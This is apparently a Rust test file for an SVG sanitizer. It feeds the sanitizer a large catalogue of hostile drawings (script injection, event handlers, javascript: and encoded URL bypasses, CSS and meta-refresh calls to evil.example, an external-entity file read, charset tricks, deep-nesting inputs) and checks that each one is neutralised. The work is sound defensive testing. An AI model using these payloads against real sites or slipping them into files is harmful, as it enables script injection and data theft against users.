//! Hostile drawings: each would run a script, ask another host or show another page in the browser of whoever opens it.
//!
//! Whatever does so has the word `evil` in it, so that a drawing is harmless if the word is gone, or if it isn't published.

use kepu::assets::picture::clean;

/// Between `<svg …>` and `</svg>`.
const INSIDE: [&str; 64] = [
    "<script>evil()</script>",
    "<script href='//evil.example/a.js'/>",
    "<script xlink:href='data:text/javascript,evil()'/>",
    "<script type='module'><![CDATA[evil()]]></script>",
    "<SCRIPT>evil()</SCRIPT>",
    "<s:script>evil()</s:script>",
    "<h:script>evil()</h:script>",
    "<g onload='evil()'/>",
    "<g ONLOAD='evil()'/>",
    "<g on\u{a0}load='x' onclick='evil()'/>",
    "<image href='x' onerror='evil()'/>",
    "<animate onbegin='evil()' attributeName='x' dur='1s'/>",
    "<set onend='evil()' attributeName='x' to='1'/>",
    "<a href='javascript:evil()'><text>x</text></a>",
    "<a xlink:href='JaVaScRiPt:evil()'><text>x</text></a>",
    "<a href='java&#115;cript:evil()'><text>x</text></a>",
    "<a href='java&#x0A;script:evil()'><text>x</text></a>",
    "<a href='&#1;javascript:evil()'><text>x</text></a>",
    "<a href=' javascript:evil()'><text>x</text></a>",
    "<a href='java\tscript:evil()'><text>x</text></a>",
    "<a href='vbscript:evil()'><text>x</text></a>",
    "<a href='data:text/html,&lt;script&gt;evil()&lt;/script&gt;'><text>x</text></a>",
    "<a href='data:image/svg+xml,evil'><text>x</text></a>",
    "<a href='blob:evil'><text>x</text></a>",
    "<a><animate attributeName='href' values='javascript:evil()'/><text>x</text></a>",
    "<a><animate attributeName='xlink:href' to='javascript:evil()'/><text>x</text></a>",
    "<a><animate attributeName='&#104;ref' values='java&#115;cript:evil()'/><text>x</text></a>",
    "<a><set attributeName=' href ' to='javascript:evil()'/><text>x</text></a>",
    "<a><set attributeName='onclick' to='evil()'/><text>x</text></a>",
    "<set attributeName='style' to='background:url(//evil.example/)'/>",
    "<animate attributeName='fill' values='url(//evil.example/a);red' dur='1s'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>evil()</script></body></foreignObject>",
    "<foreignObject><h:iframe src='//evil.example/'/></foreignObject>",
    "<h:img src='x' onerror='evil()'/>",
    "<h:meta http-equiv='refresh' content='0;url=//evil.example/'/>",
    "<h:base href='//evil.example/'/>",
    "<h:link rel='stylesheet' href='//evil.example/a.css'/>",
    "<h:form action='//evil.example/'><h:input/></h:form>",
    "<iframe src='//evil.example/'/>",
    "<embed src='//evil.example/a'/>",
    "<object data='//evil.example/a'/>",
    "<video src='//evil.example/a'/>",
    "<audio src='//evil.example/a'/>",
    "<handler type='text/javascript' ev:event='load'>evil()</handler>",
    "<listener event='click' handler='#evil'/>",
    "<use href='//evil.example/a.svg#x'/>",
    "<use xlink:href='data:image/svg+xml;base64,PHN2ZyBpZD0nZXZpbCc+PC9zdmc+#evil'/>",
    "<image href='https://evil.example/a.png'/>",
    "<image xlink:href='//evil.example/a.png'/>",
    "<image href='data:image/svg+xml,evil'/>",
    "<feImage href='//evil.example/a.png'/>",
    "<rect fill='url(//evil.example/a#b)'/>",
    "<rect style='fill:url(\"https://evil.example/a#b\")'/>",
    "<rect style='fill:u\\72l(//evil.example/a)'/>",
    "<rect style='fill:ur/**/l(//evil.example/a)' filter='URL( //evil.example/f )'/>",
    "<rect mask='&#117;rl(//evil.example/a)' cursor='url(//evil.example/c)'/>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@\\69mport '//evil.example/a.css';</style>",
    "<style>@im/**/port '//evil.example/'; .a{background:url(//evil.example/b)}</style>",
    "<style><![CDATA[.a{background:image-set('//evil.example/a.png' 1x)}]]></style>",
    "<style>&#64;import '//evil.example/a.css';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f.woff2)}</style>",
    "<style>.a{behavior:url(evil.htc);-moz-binding:url(//evil.example/x#y)}</style>",
    "<style>.a{fill:red}</style><style>@namespace url(//evil.example/);</style>",
];

const HEAD: &str = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' \
     xmlns:s='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml' xmlns:ev='http://www.w3.org/2001/xml-events'>";

/// Whole files.
fn whole() -> Vec<Vec<u8>> {
    let svg = |inside: &str| format!("{HEAD}{inside}</svg>");
    let utf16: Vec<u8> =
        format!("\u{feff}{}", svg("<script>evil()</script>")).encode_utf16().flat_map(u16::to_le_bytes).collect();
    // In ISO-2022-JP an escape sequence between the letters of a tag changes nothing for a browser.
    let mut japanese = b"<?xml version='1.0' encoding='ISO-2022-JP'?>".to_vec();
    japanese.extend(svg("<scr\u{1b}(Bipt>evil()</scr\u{1b}(Bipt>").into_bytes());
    vec![
        utf16,
        japanese,
        b"<?xml version='1.0' encoding='UTF-7'?><svg xmlns='http://www.w3.org/2000/svg'>+ADw-script+AD4-evil()</svg>".to_vec(),
        b"<?xml-stylesheet href='//evil.example/a.xsl' type='text/xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
        b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///evil'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&a;</text></svg>".to_vec(),
        b"<!DOCTYPE svg [<!ENTITY a '<script>evil()</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>".to_vec(),
        b"<!DOCTYPE svg [<!ENTITY a 'javascript:evil()'>]><svg xmlns='http://www.w3.org/2000/svg'><a href='&a;'/></svg>".to_vec(),
        b"<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'evil()'>]><svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
        b"<html xmlns='http://www.w3.org/1999/xhtml'><script>evil()</script></html>".to_vec(),
        b"<svg xmlns='http://www.w3.org/2000/svg'/><script xmlns='http://www.w3.org/1999/xhtml'>evil()</script>".to_vec(),
        format!("{}{}{}", HEAD, "<g>".repeat(6_000), "</g>".repeat(6_000)).into_bytes(),
        format!("{}{}", HEAD, "<g>".repeat(200_000)).into_bytes(),
    ]
}

#[test]
fn nothing_runs_or_is_asked_for() {
    let inside = INSIDE.iter().map(|inside| format!("{HEAD}<circle r='3'/>{inside}</svg>").into_bytes());
    for drawing in inside.chain(whole()) {
        let source = String::from_utf8_lossy(&drawing).chars().take(300).collect::<String>();
        let Ok(cleaned) = clean(&drawing) else { continue };
        let cleaned = cleaned.unwrap_or_else(|| panic!("published as it is: {source}"));
        let text = String::from_utf8(cleaned.clone()).expect("a cleaned drawing is UTF-8");
        assert!(!text.contains("evil"), "{source}\n→ {text}");
        assert!(cleaned.len() <= drawing.len() + 200, "{source}");
        assert_eq!(clean(&cleaned), Ok(None), "cleaning twice changes more: {text}");
    }
}

#[test]
fn what_is_harmless_stays_beside_what_is_not() {
    for inside in INSIDE {
        if let Ok(Some(cleaned)) = clean(format!("{HEAD}<circle r='3'/>{inside}<path d='M0 0'/></svg>").as_bytes()) {
            let text = String::from_utf8(cleaned).expect("UTF-8");
            assert!(text.contains("<circle r='3'/>") && text.contains("<path d='M0 0'/>"), "{text}");
        }
    }
}

#[test]
fn drawings_of_common_programs_stay_as_they_are() {
    let drawings = [
        // Inkscape
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!-- Created with Inkscape -->\n<svg width=\"210mm\" viewBox=\"0 0 210 297\" version=\"1.1\" id=\"svg1\" inkscape:version=\"1.3\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" xmlns=\"http://www.w3.org/2000/svg\"><sodipodi:namedview id=\"n\" pagecolor=\"#ffffff\"/><defs id=\"d\"><linearGradient id=\"a\"><stop offset=\"0\" style=\"stop-color:#000\"/></linearGradient></defs><g inkscape:label=\"Layer 1\" inkscape:groupmode=\"layer\"><path style=\"fill:url(#a);stroke:none\" d=\"M1 1h2\"/></g></svg>",
        // Illustrator without declarations, and a chart
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xml:space=\"preserve\" enable-background=\"new 0 0 9 9\"><style type=\"text/css\">.st0{fill:#E5E5E5;clip-path:url(#c)} .on{x:1}</style><use xlink:href=\"#c\" overflow=\"visible\"/><image width=\"1\" height=\"1\" xlink:href=\"data:image/png;base64,iVBORw0KGgo=\"/><text x=\"1\" font-family=\"'思源黑体', sans-serif\">每年 3 月 &amp; 5 月</text></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" role=\"img\" aria-labelledby=\"t\" data-name=\"图层 1\" onedge=\"\"><title id=\"t\">once = 1</title></svg>",
        "<svg viewBox=\"0 0 1 1\"><a href=\"https://example.org/\"><text>外链</text></a><animate attributeName=\"opacity\" values=\"0;1\" dur=\"1s\" repeatCount=\"indefinite\"/></svg>",
    ];
    for (number, drawing) in drawings.iter().enumerate() {
        let cleaned = clean(drawing.as_bytes()).expect("a drawing");
        // `onedge` begins with `on`, whatever it means.
        assert_eq!(cleaned.is_some(), number == 2, "{:?}", cleaned.map(String::from_utf8));
    }
    let declared = "<!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg xmlns=\"&ns_svg;\"><path d=\"M0 0\"/></svg>";
    let cleaned = String::from_utf8(clean(declared.as_bytes()).unwrap().unwrap()).unwrap();
    assert_eq!(cleaned, "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>");
    let chinese = encoding_rs::GBK
        .encode(
            "<?xml version='1.0' encoding='gb2312'?><svg xmlns='http://www.w3.org/2000/svg'><text>露水</text></svg>",
        )
        .0;
    let cleaned = String::from_utf8(clean(&chinese).unwrap().unwrap()).unwrap();
    assert!(cleaned.contains("露水") && !cleaned.contains("gb2312"), "{cleaned}");
}
